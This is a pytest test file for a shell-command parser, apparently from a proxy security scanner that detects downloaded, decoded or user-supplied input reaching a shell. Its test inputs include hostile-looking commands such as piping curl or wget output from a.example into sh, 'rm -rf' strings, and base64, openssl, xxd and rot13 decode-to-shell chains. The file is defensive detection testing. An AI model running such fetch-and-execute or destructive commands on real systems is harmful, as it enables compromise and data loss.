"""A shell text as calls: words, variables, pipes, what is run inside."""

from __future__ import annotations

import pytest

from proxy.scan.commands.arguments import arguments, tail
from proxy.scan.commands.reading import Reader
from proxy.scan.commands.values import DECODED, DOWNLOAD, INPUT, PLAIN, Call


def calls(text: str) -> list[Call]:
    return Reader(text).calls


def lines(text: str) -> list[tuple[str, str]]:
    return [(call.name, call.line) for call in calls(text)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("ls -l", [("ls", "-l")], id="one"),
        pytest.param("a; b && c || d & e", [("a", ""), ("b", ""), ("c", ""), ("d", ""), ("e", "")], id="lists"),
        pytest.param("/usr/bin/RM.exe x", [("rm", "x")], id="folder"),
        pytest.param("x=1; echo $x ${x}2", [("", ""), ("echo", "1 12")], id="variable"),
        pytest.param("x=a; x+=b; echo $x", [("", ""), ("", ""), ("echo", "ab")], id="append"),
        pytest.param("x+=b; echo $x", [("", ""), ("echo", "b")], id="append-to-nothing"),
        pytest.param("export x=1; echo $x", [("export", "x=1"), ("echo", "1")], id="export"),
        pytest.param("x=1; unset x y; echo $x", [("", ""), ("unset", "x y"), ("echo", "$x")], id="unset"),
        pytest.param("echo ${x:-def}", [("echo", "def")], id="default"),
        pytest.param("echo $((1 + 2))", [("echo", "0")], id="arithmetic"),
        pytest.param("sudo -u root nice -n 3 rm x", [("rm", "x")], id="wrappers"),
        pytest.param("sudo -- rm x", [("rm", "x")], id="dashes"),
        pytest.param("env -u A B=1 rm x", [("rm", "x")], id="env"),
        pytest.param("env", [("env", "")], id="env-alone"),
        pytest.param("timeout 5 rm x", [("rm", "x")], id="timeout"),
        pytest.param("sudo", [], id="nothing-behind"),
        pytest.param("$SUDO rm x", [("rm", "x")], id="sudo-variable"),
        pytest.param("> f", [("", "")], id="only-a-target"),
        pytest.param("c='rm -rf'; $c x", [("", ""), ("rm", "-rf x")], id="words-of-a-variable"),
        pytest.param("eval 'a b'", [("eval", "a b"), ("a", "b")], id="eval"),
        pytest.param("sh -lc 'a b'", [("sh", "-lc a b"), ("a", "b")], id="sh"),
        pytest.param("su - app -c 'a b'", [("su", "- app -c a b"), ("a", "b")], id="su"),
        pytest.param("ssh -p 22 h a b", [("ssh", "-p 22 h a b"), ("a", "b")], id="ssh"),
        pytest.param("ssh h <<E\na b\nE", [("ssh", "h"), ("a", "b")], id="ssh-heredoc"),
        pytest.param("echo a | sh", [("echo", "a"), ("sh", ""), ("a", "")], id="pipe"),
        pytest.param("sh <<< 'a b'", [("sh", ""), ("a", "b")], id="here-string"),
        pytest.param("trap 'a b' EXIT", [("trap", "a b EXIT"), ("a", "b")], id="trap"),
        pytest.param("trap", [("trap", "")], id="trap-alone"),
        pytest.param(". ./x", [(".", "./x")], id="unknown-file"),
        pytest.param("echo a > f; . f", [("echo", "a"), (".", "f"), ("a", "")], id="written-file"),
        pytest.param("echo a | tee f; sh f", [("echo", "a"), ("tee", "f"), ("sh", "f"), ("a", "")], id="tee"),
        pytest.param("echo a > f; cp f g; sh g", [("echo", "a"), ("cp", "f g"), ("sh", "g"), ("a", "")], id="copied"),
        pytest.param("echo a > f; cat f | sh", [("echo", "a"), ("cat", "f"), ("sh", ""), ("a", "")], id="cat"),
        pytest.param("echo a > f; sh < f", [("echo", "a"), ("sh", ""), ("a", "")], id="from-file"),
        pytest.param("echo $(echo a)", [("echo", "a"), ("echo", "a")], id="substitution"),
        pytest.param("{ a; (b); }", [("a", ""), ("b", "")], id="groups"),
    ],
)
def test_calls(text: str, expected: list[tuple[str, str]]) -> None:
    assert lines(text) == expected


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        pytest.param('echo "$1"', {INPUT}, id="parameter"),
        pytest.param('echo "$@"', {INPUT}, id="parameters"),
        pytest.param("read x; echo $x", {INPUT}, id="read"),
        pytest.param("x=$1; echo $x", {INPUT}, id="through-a-variable"),
        pytest.param("for f in $@; do echo $f; done", {INPUT}, id="loop"),
        pytest.param("echo $(curl https://example.com)", {DOWNLOAD}, id="download"),
        pytest.param("echo $(curl http://example.com)", {DOWNLOAD, PLAIN}, id="plain"),
        pytest.param("echo $(curl http://localhost/x)", {DOWNLOAD}, id="local"),
        pytest.param("echo $(echo YQ== | base64 -d)", {DECODED}, id="decoded"),
        pytest.param("echo $(base64 -d f)", {DECODED}, id="decoded-file"),
        pytest.param("echo $HOME", set(), id="environment"),
    ],
)
def test_what_is_known_of_values(text: str, kinds: set[str]) -> None:
    assert calls(text)[-1].args[0].kinds == kinds


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        pytest.param("curl https://a.example/x | sh", {DOWNLOAD}, id="curl"),
        pytest.param("wget -O - https://a.example/x | sh", {DOWNLOAD}, id="wget"),
        pytest.param("curl -o f https://a.example/x | sh", set(), id="saved"),
        pytest.param("curl https://a.example/x | tee f | sh", {DOWNLOAD}, id="tee"),
        pytest.param("openssl enc -d -a -in f | sh", {DECODED}, id="openssl"),
        pytest.param("echo x | openssl sha256 | sh", set(), id="openssl-hash"),
        pytest.param("xxd -r -p f | sh", {DECODED}, id="xxd"),
        pytest.param("echo x | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", {DECODED}, id="rot13"),
        pytest.param("echo x | tr -d '\\n' | sh", set(), id="tr-plain"),
        pytest.param("echo hs | rev | sh", {DECODED}, id="rev"),
        pytest.param("base64 f | sh", set(), id="encoded"),
    ],
)
def test_what_is_known_of_input(text: str, kinds: set[str]) -> None:
    shell = next(call for call in calls(text) if call.name == "sh")
    assert shell.stdin is not None
    assert shell.stdin.kinds == kinds


@pytest.mark.parametrize(
    ("text", "name"),
    [
        pytest.param("curl -o f https://a.example/x", "f", id="o"),
        pytest.param("curl -O https://a.example/x?y", "x", id="remote-name"),
        pytest.param("curl https://a.example/x > f", "f", id="target"),
        pytest.param("wget https://a.example/x", "x", id="wget"),
        pytest.param("wget $URL", "download", id="unknown"),
        pytest.param("wget --output-document=f https://a.example/x", "f", id="long"),
        pytest.param("wget https://a.example/x; mv x /opt/y", "/opt/y", id="moved"),
    ],
)
def test_downloaded_files(text: str, name: str) -> None:
    assert DOWNLOAD in Reader(text).files[name].kinds


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        pytest.param('[ -n "$A" ]', {"A"}, id="test"),
        pytest.param("[[ $A ]]", {"A"}, id="bracket"),
        pytest.param("set -eu", {""}, id="nounset"),
        pytest.param("set -o nounset", {""}, id="nounset-long"),
        pytest.param("set -e", set(), id="errexit"),
        pytest.param("rm ${A:?}", {"A"}, id="demanded"),
        pytest.param("[ $# -gt 0 ]", {"#", *"123456789@*"}, id="count"),
    ],
)
def test_guards(text: str, guarded: set[str]) -> None:
    assert Reader(text).guarded == guarded


def test_a_pipe_knows_who_feeds_it() -> None:
    last = calls("echo a | grep b | wc -l")[-1]
    assert [each.name for each in last.feeders] == ["echo", "grep"]
    assert last.begin == 0


def test_places_are_in_the_outer_text() -> None:
    text = "sh -c 'rm -rf /tmp/x'"
    inner = calls(text)[-1]
    assert text[inner.start : inner.end] == "rm -rf /tmp/x"
    assert text[slice(*inner.place(inner.args[1]))] == "/tmp/x"


def test_shells_in_shells_end() -> None:
    text = "eval eval eval eval eval eval eval x"
    assert Reader(text).unread != []


def test_loops_over_known_words_know_them() -> None:
    assert lines("for f in a; do rm $f; done")[-1] == ("rm", "a")
    assert lines("for f in a b; do rm $f; done")[-1] == ("rm", "a")
    assert lines("for f in a /b /; do rm $f; done")[-1] == ("rm", "/")
    assert lines("for f in *; do rm $f; done")[-1] == ("rm", "$f")


def test_options() -> None:
    (call,) = calls("tool -abc v -x --long=1 --name two --flag -- -z free")
    found = arguments(call.args, "c", longs="name")
    assert (found.has("a", "q"), found.has("q")) == (True, False)
    assert [value.text for value in found.values("c", "long", "name")] == ["v", "1", "two"]
    assert [value.text for value in found.free] == ["-z", "free"]
    assert found.first("flag") is not None
    assert found.first("none") is None


def test_an_option_without_its_value() -> None:
    (call,) = calls("tool --name --flag -c")
    found = arguments(call.args, "c", longs="name")
    assert [value.text for value in found.values("name", "c")] == ["--name"]


def test_the_rest_of_a_word_has_its_own_place() -> None:
    text = "mysql -psecret"
    (call,) = calls(text)
    rest = tail(call.args[0], 2)
    assert (rest.text, text[rest.start : rest.end]) == ("secret", "secret")
